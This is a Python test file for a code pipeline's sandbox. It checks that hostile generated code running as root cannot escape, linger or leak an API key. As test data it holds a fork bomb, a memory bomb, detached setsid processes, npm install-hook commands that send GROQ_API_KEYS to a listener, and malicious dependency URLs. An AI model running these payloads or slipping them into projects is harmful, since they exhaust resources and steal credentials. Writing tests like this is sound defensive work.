"""The escape suite: generated code tries every way out we know of, as root (CI runs as root).
Every attempt must fail, every run must end within its timeout, and nothing may be left running."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

from pipeline.artifacts import FileSet
from pipeline.sandbox import SandboxLimits, run_sandboxed
from pipeline.validate.runtime import npm_build, run_backend_tests
from tests.sandbox.conftest import leftovers
from tests.sandbox.hostile import ATTEMPTS, hostile_suite


def _failed_tests(found: list) -> set[str]:  # type: ignore[type-arg]
    return {d.message.split(" failed")[0] for d in found if d.check == "tests.failed"}


def test_every_escape_attempt_fails_as_root(
    tmp_path: Path, secret: str, host_process: subprocess.Popen[bytes]
) -> None:
    outside = tmp_path / "escaped.txt"
    suite = hostile_suite(secret=secret, host_pid=host_process.pid, outside=str(outside))
    backend = FileSet(files={"backend/tests/test_escape.py": suite, "backend/requirements.txt": "pytest\n"})
    os.environ["GROQ_API_KEYS"] = secret  # the checker itself holds a key, as the service does
    try:
        started = time.monotonic()
        found = run_backend_tests(backend, limits=SandboxLimits(timeout_s=120))
        took = time.monotonic() - started
    finally:
        del os.environ["GROQ_API_KEYS"]
    assert _failed_tests(found) == set(ATTEMPTS), [d.message for d in found]
    assert took < 120
    assert host_process.poll() is None, "the host process was signalled"
    assert not outside.exists()
    assert not any(Path(p, "escaped-by-sandbox-test").exists() for p in ("/usr", "/etc", "/", "/bin"))
    assert all(secret not in d.message for d in found)


def test_check_level_run_as_root_with_a_key_in_its_environment(
    tmp_path: Path, secret: str, host_process: subprocess.Popen[bytes]
) -> None:
    project = tmp_path / "hostile"
    (project / "backend" / "tests").mkdir(parents=True)
    (project / "frontend").mkdir()
    (project / "backend" / "requirements.txt").write_text("fastapi\npytest\n")
    (project / "backend" / "app").mkdir()
    (project / "backend" / "app" / "__init__.py").write_text("")
    (project / "backend" / "app" / "main.py").write_text("from fastapi import FastAPI\n\napp = FastAPI()\n")
    (project / "backend" / "tests" / "test_escape.py").write_text(
        hostile_suite(secret=secret, host_pid=host_process.pid, outside=str(tmp_path / "escaped.txt"))
    )
    run = subprocess.run(
        [sys.executable, "-m", "pipeline", "check", str(project), "--level", "run", "--json"],
        capture_output=True,
        text=True,
        timeout=300,
        env={**os.environ, "GROQ_API_KEYS": secret, "PIPELINE_DATA_DIR": str(tmp_path / "data")},
    )
    assert run.returncode == 1, run.stderr[-2000:]
    assert secret not in run.stdout + run.stderr
    lines = [json.loads(line) for line in run.stdout.splitlines() if line.startswith("{")]
    failed = {d["message"].split(" failed")[0] for d in lines if d.get("check") == "tests.failed"}
    assert failed == set(ATTEMPTS)
    assert host_process.poll() is None


def test_a_fork_bomb_is_bounded_and_ended(tmp_path: Path, marker: str) -> None:
    script = tmp_path / f"{marker}.py"
    script.write_text(
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    )
    started = time.monotonic()
    outcome = run_sandboxed(
        [sys.executable, str(script)], cwd=tmp_path, limits=SandboxLimits(timeout_s=5, max_processes=64)
    )
    assert outcome.timed_out and time.monotonic() - started < 30
    assert leftovers(marker) == []


def test_a_memory_bomb_is_killed_by_the_sandboxs_memory_cap(tmp_path: Path) -> None:
    outcome = run_sandboxed(
        [sys.executable, "-c", "blocks = []\nwhile True:\n    blocks.append(b'x' * (64 * 1024 * 1024))"],
        cwd=tmp_path,
        limits=SandboxLimits(timeout_s=60, memory_mb=256, address_space_cap=False),
    )
    assert outcome.returncode != 0 and not outcome.timed_out
    assert outcome.memory_exhausted or "MemoryError" in outcome.stderr


def test_a_setsid_grandchild_holding_the_output_cannot_hold_the_run_past_its_timeout(
    tmp_path: Path, marker: str
) -> None:
    code = (
        "import subprocess, sys, time\n"
        f"subprocess.Popen(['setsid', sys.executable, '-c', 'import time; time.sleep(600) # {marker}'])\n"
        "print('spawned', flush=True)\n"
        "time.sleep(600)\n"
    )
    started = time.monotonic()
    outcome = run_sandboxed([sys.executable, "-c", code], cwd=tmp_path, limits=SandboxLimits(timeout_s=3))
    assert outcome.timed_out and "spawned" in outcome.stdout
    assert time.monotonic() - started < 15
    assert leftovers(marker) == []


def test_a_grandchild_cannot_outlive_its_run(tmp_path: Path, marker: str) -> None:
    code = (
        "import subprocess, sys\n"
        f"subprocess.Popen(['setsid', '-f', sys.executable, '-c', 'import time; time.sleep(600) # {marker}'])\n"
        "print('left it running', flush=True)\n"
    )
    started = time.monotonic()
    outcome = run_sandboxed([sys.executable, "-c", code], cwd=tmp_path, limits=SandboxLimits(timeout_s=60))
    assert outcome.returncode == 0 and not outcome.timed_out, outcome.stderr
    assert time.monotonic() - started < 15
    assert leftovers(marker) == []


def _listener() -> tuple[socket.socket, list[object]]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.5)
    seen: list[object] = []

    def accept() -> None:
        while True:
            try:
                seen.append(server.accept())
            except TimeoutError:
                continue
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    return server, seen


def test_npm_never_runs_a_projects_install_scripts(tmp_path: Path) -> None:
    server, seen = _listener()
    port = server.getsockname()[1]
    steal = f"node -e \"require('net').connect({port}, '127.0.0.1').end(process.env.GROQ_API_KEYS || 'x')\""
    manifest = {
        "name": "hostile",
        "version": "1.0.0",
        "scripts": {"preinstall": steal, "install": steal, "postinstall": steal, "build": "node -e 1"},
    }
    frontend = FileSet(
        files={"frontend/package.json": json.dumps(manifest), "frontend/.npmrc": "ignore-scripts=false\n"}
    )
    found = npm_build(frontend)
    time.sleep(1)
    server.close()
    assert seen == []
    assert [d for d in found if d.severity == "error"] == []


def test_npm_refuses_dependencies_that_are_not_registry_versions(tmp_path: Path) -> None:
    server, seen = _listener()
    port = server.getsockname()[1]
    for spec in (
        f"http://127.0.0.1:{port}/evil.tgz",
        "file:../evil",
        "git+ssh://host/evil.git",
        "npm:evil@1",
    ):
        manifest = {"name": "hostile", "version": "1.0.0", "dependencies": {"evil": spec}}
        found = npm_build(FileSet(files={"frontend/package.json": json.dumps(manifest)}))
        assert [d.check for d in found] == ["js.install"], (spec, found)
        assert "not a registry package version" in found[0].message
    server.close()
    assert seen == []
